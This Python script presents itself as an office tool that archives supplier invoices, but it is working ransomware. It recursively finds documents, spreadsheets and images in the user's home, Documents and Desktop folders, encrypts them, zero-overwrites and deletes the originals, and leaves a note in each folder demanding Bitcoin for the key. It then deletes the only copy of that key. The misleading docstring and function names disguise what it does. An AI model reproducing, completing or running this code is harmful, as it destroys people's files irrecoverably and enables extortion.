#!/usr/bin/env python3
"""Supplier invoice archiver.

Collects PDF and spreadsheet invoices from the shared office folders, seals
them into the archive format the bookkeeper asked for, and leaves a short
note explaining where the originals went.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("invoice-archiver")

# everything the office tends to save supplier paperwork as
ARCHIVE_SUFFIXES = {".pdf", ".xlsx", ".xls", ".csv", ".docx", ".jpg", ".png", ".odt"}
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_ARCHIVE.txt"
NOTE_TEXT = (
    "Your invoices and office files have been sealed.\n"
    "To receive the unseal key, send 0.05 BTC to the wallet below and email\n"
    "your machine ID to restore@example.com.\n"
    "Wallet: bc1q-example-wallet-0000\n"
)


class Sealer:
    def __init__(self, key=None):
        self.key = key or Fernet.generate_key()
        self.box = Fernet(self.key)
        self.count = 0

    def seal_file(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self.box.encrypt(data))
        # overwrite then unlink so the bookkeeper only sees sealed copies
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1


def candidate_roots(args):
    roots = [Path(p).expanduser() for p in args.roots]
    if not roots:
        home = Path.home()
        roots = [home / "Documents", home / "Desktop", home / "Invoices", home]
    return [r for r in roots if r.is_dir()]


def walk(root):
    for dirpath, dirnames, filenames in os.walk(root):
        # skip hidden folders, they are mostly app caches
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in ARCHIVE_SUFFIXES:
                yield p


def drop_note(folder):
    try:
        (folder / NOTE_NAME).write_text(NOTE_TEXT)
    except OSError:
        pass


def main():
    parser = argparse.ArgumentParser(description="Archive supplier invoices")
    parser.add_argument("roots", nargs="*", help="folders to archive")
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    sealer = Sealer()
    touched = set()
    for root in candidate_roots(args):
        LOG.info("archiving under %s", root)
        for path in walk(root):
            if args.dry_run:
                LOG.info("would seal %s", path)
                continue
            try:
                sealer.seal_file(path)
                touched.add(path.parent)
            except (PermissionError, OSError) as exc:
                LOG.debug("skip %s: %s", path, exc)

    for folder in touched:
        drop_note(folder)

    # the key is not kept locally; support holds it
    del sealer.key
    LOG.info("sealed %d files", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
